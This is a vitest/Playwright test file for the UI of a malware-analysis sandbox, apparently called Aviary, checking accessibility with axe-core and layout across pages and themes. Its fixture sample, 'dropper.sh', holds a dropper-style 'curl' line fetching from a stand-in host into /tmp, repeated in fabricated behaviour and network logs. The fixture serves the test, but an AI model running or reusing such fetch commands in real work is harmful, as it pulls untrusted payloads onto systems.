// Accessibility and layout of the built UI in Debian's Chromium (playwright-core): axe-core is
// injected into every page state (every page, every report tab, the dialogs open, a dispatcher in
// use, a task no machine can run), in the light and the dark theme, and into report.html; no
// serious or critical violation, and no heading that skips a level, may remain. At 1024×700 the
// dashboard's gauges fit their cards, and the icon the browser asks for is there.
//
// The report comes from Aviary's own processing of an analysis folder made here (processes, a
// dropped file, screenshots, a memory dump, the decrypting proxy's flows), as in the Task page's
// tests: what is checked is the UI, and a guest adds nothing to it.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { createRequire } from 'node:module'
import sharp from 'sharp'
import { chromium, type Browser, type Page } from 'playwright-core'
import { finishRun, startHarness, type Harness } from '../service-harness'
import { waitForTask } from '../e2e/e2e-helpers'
import { startDispatcher, type Dispatcher } from '../../src/dispatcher/index'

const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
const SHOTS = path.resolve('test-results/ui-e2e')

let h: Harness
let remote: Harness
let dist: Dispatcher
let distDir: string
let browser: Browser
let page: Page
let reported: number
let pending: number
let notStarted: number
let distConnection: number
const icons: { url: string; status: number }[] = []

interface Violation { id: string; impact: string | null; help: string; nodes: { target: string[]; failureSummary?: string }[] }
interface InPage { axe: { run(ctx: unknown, o: unknown): Promise<{ violations: Violation[] }> }; document: unknown }

/** axe-core's serious and critical findings on the page as it is now, and any heading that skips a level. */
async function audit(p: Page, state: string): Promise<string[]> {
  if (!(await p.evaluate(() => 'axe' in globalThis))) await p.evaluate(AXE)
  const violations = await p.evaluate(async () => {
    const g = globalThis as unknown as InPage
    // label-content-name-mismatch is one of axe's experimental rules (off by default): on, so a
    // control whose name does not hold its visible words (WCAG 2.5.3) is found too.
    const r = await g.axe.run(g.document, { resultTypes: ['violations'], rules: { 'label-content-name-mismatch': { enabled: true } } })
    return r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help, nodes: v.nodes.slice(0, 5).map((n) => ({ target: n.target, failureSummary: n.failureSummary })) }))
  })
  return violations
    .filter((v) => v.impact === 'serious' || v.impact === 'critical' || v.id === 'heading-order')
    .map((v) => `${state}: ${v.id} (${v.impact}) ${v.help}: ${v.nodes.map((n) => `${n.target.join(' ')} [${(n.failureSummary ?? '').replace(/\s+/g, ' ').slice(0, 160)}]`).join('; ')}`)
}

async function submit(name: string, fields: Record<string, string> = {}): Promise<number> {
  const form = new FormData()
  for (const [k, v] of Object.entries(fields)) form.append(k, v)
  form.append('file', new Blob([`#!/bin/sh\n# ${name}\ncurl -s https://upstream.example/secret -o /tmp/x\n`]), name)
  const res = await h.post('/tasks/create/file', form)
  return res.body.task_id as number
}

/** A reported task from an analysis folder written here, processed by the engine. */
async function reportedTask(): Promise<number> {
  // A platform no machine has keeps it pending; marked completed, the engine only processes it.
  const id = await submit('dropper.sh', { platform: 'darwin' })
  const now = Date.now()
  const t = now / 1000
  const jpeg = await sharp({ create: { width: 640, height: 400, channels: 3, background: '#246' } }).jpeg().toBuffer()
  const files: Record<string, string | Buffer> = {
    'logs/behavior.jsonl': [
      { type: 'analyzer', version: 1, package: 'sh', task: id, platform: 'linux', category: 'file', target: '/tmp/dropper.sh', pid: 10, started: now, ended: now + 5000, reason: 'tree-ended', monitors: ['proc', 'files'] },
      { type: 'process', pid: 10, ppid: 1, command_line: 'sh /tmp/dropper.sh', exe: '/bin/sh', first_seen: now, exited: now + 5 },
      { type: 'process', pid: 11, ppid: 10, command_line: 'curl -s https://upstream.example/secret -o /tmp/x', exe: '/usr/bin/curl', first_seen: now + 1, exited: now + 3 },
      { type: 'file', op: 'created', path: '/tmp/x', time: now + 2, pid: 11 },
      { type: 'connection', proto: 'tcp', src: '10.0.0.5', sport: 40000, dst: '198.51.100.7', dport: 443, pid: 11, time: now + 2 }
    ].map((e) => JSON.stringify(e)).join('\n') + '\n',
    'files/0123456789abcdef_x': 'MZ dropped payload',
    'files.json': JSON.stringify({ path: 'files/0123456789abcdef_x', filepath: '/tmp/x', pids: [11] }) + '\n',
    'shots/0001.jpg': jpeg, 'shots/0002.jpg': jpeg,
    'memory/11-1.dmp': Buffer.alloc(4096, 1),
    'mitm/flows.jsonl': [
      { type: 'flow', time: t, client: ['10.0.0.5', 40000], server: ['198.51.100.7', 443], sni: 'upstream.example', scheme: 'https', method: 'GET',
        host: 'upstream.example', port: 443, path: '/secret', http_version: 'HTTP/1.1',
        request: { headers: [['Host', 'upstream.example'], ['User-Agent', 'curl/8.5']], body_b64: '', body_size: 0, truncated: false },
        response: { status: 200, reason: 'OK', headers: [['Content-Type', 'text/plain']], body_b64: Buffer.from('the answer\n').toString('base64'), body_size: 11, truncated: false },
        error: null },
      { type: 'tls_failed', time: t + 1, client: ['10.0.0.5', 40001], server: ['198.51.100.8', 443], sni: 'pinned.example', error: 'certificate unknown' }
    ].map((f) => JSON.stringify(f)).join('\n') + '\n',
    'mitm/dump.mitm': 'flows'
  }
  finishRun(h, id, files, { set: "route = 'internet'", pendingOnly: true })
  expect(await waitForTask(h, id, ['reported', 'failed_processing'], 60_000)).toBe('reported')
  return id
}

beforeAll(async () => {
  mkdirSync(SHOTS, { recursive: true })
  distDir = mkdtempSync(path.join(tmpdir(), 'aviary-a11y-dist-'))
  ;[h, remote] = await Promise.all([
    startHarness({ engine: true, machines: { driver: 'physical', resultserver: { ip: '127.0.0.1', port: 0 }, machines: [{ name: 'box', ip: '127.0.0.9', platform: 'linux', tags: ['e2e'] }] } }),
    startHarness()
  ])
  dist = await startDispatcher({ dataDir: distDir, host: '127.0.0.1', port: 0, worker: false, logLevel: 'warn' })
  reported = await reportedTask()
  pending = await submit('nomachine.sh', { platform: 'windows' })
  // A sample that did not start: marked in the list, with no score.
  notStarted = await submit('badexec.bin', { platform: 'darwin' })
  h.sql(`UPDATE tasks SET status = 'reported', score = 0, errors = ? WHERE id = ?`, JSON.stringify(['the sample did not start: Exec format error (ENOEXEC)']), notStarted)
  for (let i = 0; i < 100 && !JSON.stringify((await h.json<{ task: { errors: string[] } }>(`/tasks/view/${pending}`)).body.task.errors).includes('unschedulable'); i++) {
    await new Promise((r) => setTimeout(r, 100))
  }
  const save = async (name: string, url: string) => (await (await fetch(`${h.url}/aviary/connections`, {
    method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ name, url })
  })).json() as { connection: { id: number } }).connection.id
  await save('lab server', remote.url)
  distConnection = await save('team dispatcher', dist.url)
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox'] })
}, 120_000)

afterAll(async () => {
  await browser?.close()
  await dist?.stop()
  await Promise.all([h?.stop(), remote?.stop()])
  if (distDir) rmSync(distDir, { recursive: true, force: true })
})

async function open(hash: string, ready: (p: Page) => Promise<unknown>): Promise<void> {
  await page.goto(`${h.url}/#${hash}`)
  await ready(page)
  // Charts and lazy pages settle.
  await page.waitForTimeout(250)
}

describe('the UI at 1024×700', () => {
  it('fits each dashboard gauge in its card, and finds its icon', async () => {
    page = await browser.newPage({ viewport: { width: 1024, height: 700 } })
    page.on('response', (r) => { if (/\/favicon\.(ico|svg)$/.test(r.url())) icons.push({ url: r.url(), status: r.status() }) })
    await open('/', (p) => p.getByRole('img', { name: /^Machines available/ }).waitFor({ timeout: 15_000 }))
    await page.screenshot({ path: path.join(SHOTS, 'dashboard-1024x700.png') })
    const overflow = await page.evaluate(() => {
      const d = (globalThis as unknown as { document: { querySelectorAll(s: string): ArrayLike<{ getBoundingClientRect(): { left: number; right: number; top: number; bottom: number }; closest(s: string): { getBoundingClientRect(): { left: number; right: number; top: number; bottom: number }; querySelector(s: string): { textContent: string | null } | null } | null; getAttribute(n: string): string | null }> } }).document
      const out: string[] = []
      for (const img of Array.from(d.querySelectorAll('figure [role="img"]'))) {
        const card = img.closest('figure')
        if (!card) continue
        const a = img.getBoundingClientRect()
        const b = card.getBoundingClientRect()
        if (a.left < b.left - 0.5 || a.right > b.right + 0.5 || a.top < b.top - 0.5 || a.bottom > b.bottom + 0.5) {
          out.push(`${img.getAttribute('aria-label')}: ${JSON.stringify(a)} outside its card ${JSON.stringify(b)}`)
        }
      }
      return out
    })
    expect(overflow).toEqual([])
    await expect.poll(() => icons.length).toBeGreaterThan(0)
    expect(icons.filter((i) => i.status !== 200)).toEqual([])
    await page.close()
  }, 60_000)

  it('gives the task list\'s Target column room at 1024 px, its header apart from the next, each row one line', async () => {
    page = await browser.newPage({ viewport: { width: 1024, height: 700 } })
    await open('/tasks', (p) => p.locator(`[role="row"][data-task-id="${notStarted}"]`).waitFor({ timeout: 15_000 }))
    await page.screenshot({ path: path.join(SHOTS, 'tasks-1024x700.png') })
    const header = page.getByTestId('task-header')
    const box = async (text: string) => (await header.getByText(text, { exact: true }).boundingBox())!
    const target = await box('Target')
    const category = await box('Category')
    // The column is at least 8rem; its header ends before the next one starts.
    const cell = (await page.locator(`[role="row"][data-task-id="${pending}"] [role="gridcell"]`).nth(2).boundingBox())!
    expect(cell.width).toBeGreaterThanOrEqual(128)
    expect(target.x + target.width).toBeLessThanOrEqual(category.x)
    expect(await page.locator(`[role="row"][data-task-id="${pending}"] [role="gridcell"]`).nth(2).textContent()).toBe('nomachine.sh')
    // The marks stay on the row's one line (32 px).
    for (const id of [pending, notStarted]) {
      const status = (await page.locator(`[role="row"][data-task-id="${id}"] [role="gridcell"]`).nth(1).locator('span').first().boundingBox())!
      expect(status.height).toBeLessThanOrEqual(24)
    }
    expect(await page.locator(`[role="row"][data-task-id="${notStarted}"] [data-not-started]`).textContent()).toBe('not started')
    // The reported task chose a route: the Route column is there, and Target still has its room (above).
    expect(await header.getByText('Route', { exact: true }).count()).toBe(1)
    await page.close()
  }, 60_000)

  it('shows a task\'s target as its file name on one line, even in a narrow window', async () => {
    page = await browser.newPage({ viewport: { width: 640, height: 700 } })
    await open(`/tasks/${pending}`, (p) => p.getByRole('rowheader', { name: 'Target' }).waitFor({ timeout: 15_000 }))
    const cell = page.getByRole('rowheader', { name: 'Target' }).locator('xpath=following-sibling::td')
    expect(await cell.textContent()).toBe('nomachine.sh')
    const lines = await cell.evaluate((td) => {
      const el = td as unknown as { getBoundingClientRect(): { height: number }; ownerDocument: { defaultView: { getComputedStyle(e: unknown): { lineHeight: string } } } }
      return el.getBoundingClientRect().height / parseFloat(el.ownerDocument.defaultView.getComputedStyle(td).lineHeight)
    })
    expect(lines).toBeLessThan(1.6)
    await page.close()
  }, 60_000)
})

describe('accessibility (axe-core)', () => {
  it('finds no serious or critical violation on any page state, in either theme', async () => {
    page = await browser.newPage({ viewport: { width: 1280, height: 900 }, bypassCSP: true })
    page.on('pageerror', (err) => { throw err })
    const found: string[] = []
    // A picture of each state that has a violation, to look at beside the list (60 pictures of
    // every state took a fair share of the file's time and were never looked at when all passed).
    const check = async (state: string) => {
      const here = await audit(page, state)
      found.push(...here)
      if (here.length > 0) await page.screenshot({ path: path.join(SHOTS, `a11y-${state.replace(/\W+/g, '-')}.png`), fullPage: true })
    }
    for (const theme of ['light', 'dark'] as const) {
      await open('/', (p) => p.getByRole('img', { name: /^Machines available/ }).waitFor({ timeout: 15_000 }))
      await page.getByLabel('Theme').selectOption(theme)
      await check(`${theme} dashboard`)
      await open('/submit', (p) => p.getByRole('heading', { name: 'Submit' }).waitFor())
      await page.getByRole('textbox', { name: /URLs and hashes/ }).fill('not a url at all\nhttp://example.com/')
      await check(`${theme} submit`)
      // 30 s: with three test files at a time on two busy cores, 15 s was missed once.
      await open('/tasks', (p) => p.locator(`[role="row"][data-task-id="${notStarted}"] [data-not-started]`).waitFor({ timeout: 30_000 }))
      await check(`${theme} tasks`)
      await page.getByRole('searchbox', { name: 'Search tasks' }).fill('signatur:antivm')
      await page.getByText("'signatur:' is not a search kind", { exact: false }).waitFor()
      await check(`${theme} tasks with a search it cannot mean`)
      await page.getByRole('searchbox', { name: 'Search tasks' }).fill('')
      await open(`/tasks/${pending}`, (p) => p.getByTestId('unschedulable').waitFor())
      await check(`${theme} task without a machine`)
      for (const tab of ['summary', 'timeline', 'signatures', 'behavior', 'network', 'static', 'dropped', 'screenshots', 'memory', 'raw']) {
        await open(`/tasks/${reported}?tab=${tab}`, (p) => p.getByRole('tabpanel').waitFor({ timeout: 20_000 }))
        await page.waitForTimeout(300)
        if (tab === 'network') await page.getByRole('button', { name: /GET.*upstream\.example\/secret/ }).click()
        await check(`${theme} report ${tab}`)
        if (tab === 'screenshots') {
          await page.getByRole('button', { name: /^Screenshot .*open full size/ }).first().click()
          await page.getByRole('dialog').waitFor()
          await check(`${theme} screenshot dialog`)
          await page.keyboard.press('Escape')
        }
      }
      await page.getByRole('button', { name: 'Delete…' }).click()
      await page.getByRole('alertdialog').waitFor()
      await check(`${theme} delete confirmation`)
      await open('/machines', (p) => p.getByRole('button', { name: 'box' }).waitFor({ timeout: 15_000 }))
      await page.getByRole('button', { name: 'box' }).click()
      await page.getByRole('list', { name: 'Findings for box' }).waitFor({ timeout: 20_000 })
      await check(`${theme} machines`)
      await open('/connections', (p) => p.getByRole('listitem', { name: 'Connection team dispatcher' }).waitFor({ timeout: 15_000 }))
      await page.getByRole('listitem', { name: 'Connection team dispatcher' }).getByRole('button', { name: 'Nodes and tasks' }).click()
      await page.getByRole('region', { name: 'Dispatcher tasks' }).waitFor()
      await page.getByRole('listitem', { name: 'Connection lab server' }).getByRole('button', { name: 'Delete' }).click()
      await check(`${theme} connections`)
      await open('/offline', (p) => p.getByRole('heading', { name: 'Offline' }).waitFor())
      await check(`${theme} offline`)
      await open('/compare', (p) => p.locator('main h1').first().waitFor())
      await check(`${theme} compare`)
      // A rule that selects one failed task of its own: the question before deleting, and the run's record.
      const doomed = await submit(`doomed-${theme}.sh`, { platform: 'darwin' })
      h.sql("UPDATE tasks SET status = 'failed_analysis', completed_on = added_on WHERE id = ?", doomed)
      const rule = await (await fetch(`${h.url}/aviary/retention/rules`, {
        method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ name: `failed ${theme}`, statuses: ['failed_analysis'] })
      })).json() as { rule: { id: number } }
      await open('/retention', (p) => p.getByRole('button', { name: `Preview rule failed ${theme}` }).waitFor({ timeout: 15_000 }))
      await check(`${theme} retention`)
      await page.getByRole('button', { name: `Preview rule failed ${theme}` }).click()
      await page.getByRole('button', { name: 'Delete this task…' }).click()
      await page.getByRole('group', { name: /^Delete 1 task/ }).waitFor()
      await check(`${theme} retention confirmation`)
      await page.getByRole('button', { name: 'Yes, delete it' }).click()
      await page.getByTestId('run-result').waitFor({ timeout: 15_000 })
      await check(`${theme} retention run`)
      await fetch(`${h.url}/aviary/retention/rules/${rule.rule.id}`, { method: 'DELETE' })
      await open('/ids-rules', (p) => p.getByRole('table', { name: 'IDS rule sets' }).getByText('aviary', { exact: true }).waitFor({ timeout: 15_000 }))
      await check(`${theme} IDS rules`)
      // A dispatcher in use: the pages that do not apply, disabled with the reason.
      await page.getByRole('combobox', { name: 'Server' }).selectOption({ label: 'team dispatcher' })
      await open('/tasks', (p) => p.getByTestId('not-for-dispatcher').waitFor())
      await check(`${theme} dispatcher in use`)
      await page.getByRole('combobox', { name: 'Server' }).selectOption({ label: 'This computer' })
    }
    expect(found).toEqual([])
    expect(distConnection).toBeGreaterThan(0)
    await page.close()
  }, 300_000)

  it('finds none in report.html either', async () => {
    page = await browser.newPage({ viewport: { width: 1280, height: 900 } })
    const html = await (await h.get(`/tasks/report/${reported}/html`)).text()
    expect(html).toContain('<section id="signatures">')
    // Set as the page's content: the service serves it sandboxed, without scripts, and axe is one.
    await page.setContent(html)
    expect(await audit(page, 'report.html')).toEqual([])
    await page.close()
  }, 60_000)
})
